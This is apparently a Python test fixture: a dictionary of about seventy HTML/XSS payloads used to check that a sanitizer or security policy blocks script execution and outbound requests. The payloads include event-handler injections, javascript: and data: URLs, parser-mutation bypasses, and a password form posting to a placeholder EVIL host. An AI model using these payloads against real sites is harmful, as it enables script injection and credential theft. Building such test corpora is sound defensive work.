"""HTML that would do harm if a browser let it. ``RUN`` marks where code stands that calls home, ``EVIL`` the base of a
server that nothing may be asked of but pictures (``/img…``); ``<a id=click>`` and its like are to be clicked.

``<link rel=prefetch>`` is not among them: the standard lets it ask wherever any directive would, so as a picture may
(Content Security Policy Level 3, "Does resource hint request violate policy?").
"""

from __future__ import annotations

SCRIPT = "document.title=`pwned`;fetch(`EVIL/ran`);document.body.background=`EVIL/ran`;void(0)"

PAYLOADS = {
    "script": "<script>RUN</script>",
    "script by url": "<script src=EVIL/script.js></script>",
    "module": "<script type=module src=EVIL/module.js></script>",
    "script by data": "<script src=\"data:text/javascript,RUN\"></script>",
    "body onload": '<body onload="RUN">',
    "img onerror": '<img src=x: onerror="RUN">',
    "svg onload": '<svg onload="RUN">',
    "svg script": "<svg><script>RUN</script></svg>",
    "svg animate": '<svg><animate onbegin="RUN" attributeName=x dur=1s>',
    "details ontoggle": '<details open ontoggle="RUN">x</details>',
    "input onfocus": '<input autofocus onfocus="RUN">',
    "style onload": '<style onload="RUN"></style>',
    "video onerror": '<video src=x: onerror="RUN"></video>',
    "animation event": '<style>@keyframes k{}</style><p style="animation:k" onanimationstart="RUN">x</p>',
    "onclick": '<p id=click onclick="RUN">click</p>',
    "javascript link": '<a id=click href="javascript:RUN">click</a>',
    "javascript link by entities": '<a id=click href=" &#106;ava&Tab;script&colon;RUN">click</a>',
    "javascript link in a new tab": '<a id=click target=_blank href="javascript:RUN">click</a>',
    "javascript link with opener": '<a id=click target=_blank rel=opener href="javascript:RUN">click</a>',
    "javascript link in a frame": '<iframe name=f></iframe><a id=click target=f href="javascript:RUN">click</a>',
    "javascript area": '<map name=m><area shape=rect coords=0,0,99,99 href="javascript:RUN"></map>'
    '<img id=click usemap=#m width=99 height=99 src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    "javascript svg link": '<svg><a xlink:href="javascript:RUN"><text id=click y=20>click</text></a></svg>',
    "svg link set": '<svg><a><set attributeName=href to="javascript:RUN" /><text id=click y=20>click</text></a></svg>',
    "data link": '<a id=click href="data:text/html,<p><script>RUN</script>">click</a>',
    "data link in a new tab": '<a id=click target=_blank href="data:text/html,<p><script>RUN</script>">click</a>',
    "javascript form": '<form action="javascript:RUN"><button id=click>click</button></form>',
    "javascript formaction": '<form><button id=click formaction="javascript:RUN">click</button></form>',
    "form": "<form action=EVIL/form method=post><input name=password><button id=click>click</button></form>",
    "form in a new tab": "<form action=EVIL/form target=_blank><button id=click>click</button></form>",
    "ping": '<a id=click ping=EVIL/ping href="#x">click</a>',
    "download": "<a id=click download href=EVIL/img>click</a>",
    "javascript frame": '<iframe src="javascript:RUN"></iframe>',
    "frame": "<iframe src=EVIL/frame></iframe>",
    "data frame": '<iframe src="data:text/html,<p><script>RUN</script>"></iframe>',
    "srcdoc": '<iframe srcdoc="<p><script>RUN</script>"></iframe>',
    "srcdoc onerror": '<iframe srcdoc="<img src=x: onerror=&quot;RUN&quot;>"></iframe>',
    "frameset": "<frameset><frame src=EVIL/frame></frameset>",
    "object": "<object data=EVIL/object type=text/html></object>",
    "data object": '<object data="data:text/html,<p><script>RUN</script>"></object>',
    "embed": "<embed src=EVIL/embed type=text/html>",
    "refresh": '<meta http-equiv=refresh content="0;url=EVIL/refresh">',
    "refresh to javascript": '<meta http-equiv=refresh content="0;url=javascript:RUN">',
    "refresh to data": '<meta http-equiv=refresh content="0;url=data:text/html,<p><script>RUN</script>">',
    "base": "<base href=EVIL/base/><img src=x>",
    "base link": "<base href=EVIL/base/><a id=click href=x>click</a>",
    "policy of its own": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">"
    "<script>RUN</script>",
    "utf-7": "<meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "stylesheet": "<link rel=stylesheet href=EVIL/style.css>",
    "import": "<style>@import url(EVIL/import.css);</style>",
    "import of data": "<style>@import 'data:text/css,@import%20%22EVIL/import.css%22;';</style>",
    "font": "<style>@font-face{font-family:x;src:url(EVIL/font)}p{font-family:x}</style><p>x</p>",
    "preload": "<link rel=preload as=script href=EVIL/preload>",
    "modulepreload": "<link rel=modulepreload href=EVIL/modulepreload>",
    "manifest": "<link rel=manifest href=EVIL/manifest>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["EVIL/rules"]}]}</script>',
    "video": "<video src=EVIL/video autoplay></video>",
    "audio": "<audio src=EVIL/audio autoplay></audio>",
    "track": "<video controls><track default src=EVIL/track></video>",
    "svg use": "<svg><use href=EVIL/use#x></use></svg>",
    "noscript": '<noscript><p title="</noscript><img src=x: onerror=RUN>"></noscript>',
    "noscript broken out of": '<noscript><style></noscript><img src=x: onerror="RUN"></style>',
    "template": "<template><script>RUN</script></template>"
    "<p><template shadowrootmode=open><script>RUN</script></template></p>",
    "mutation by math": "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=\"RUN\">",
    "mutation by table": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;<img src=x: onerror=RUN>\">",
    "mutation by svg": '<svg></p><style><a title="</style><img src=x: onerror=RUN>">',
    "title broken out of": '<title><img title="</title><img src=x: onerror=RUN>"></title>',
    "textarea broken out of": '<textarea><img title="</textarea><img src=x: onerror=RUN>"></textarea>',
    "comment broken out of": "<!--><img src=x: onerror=\"RUN\">--><!-- --!><img src=x: onerror=\"RUN\">",
    "conditional comment": "<!--[if mso]><script>RUN</script><![endif]--><![if !mso]><script>RUN</script><![endif]>",
    "cdata": "<![CDATA[><img src=x: onerror=\"RUN\">]]>",
    "cookie": '<meta http-equiv=Set-Cookie content="a=b"><script>document.cookie="a=b";RUN</script>',
}  # fmt: skip

FOILED = {
    *(
        "data link",
        "data link in a new tab",
        "refresh to data",
        "refresh to javascript",
        "javascript link in a new tab",
    ),
    *("manifest", "speculation", "utf-7", "mutation by math", "mutation by table"),
}
"""Those that Chromium does not fall for anyway, on a page by itself and without TLS."""
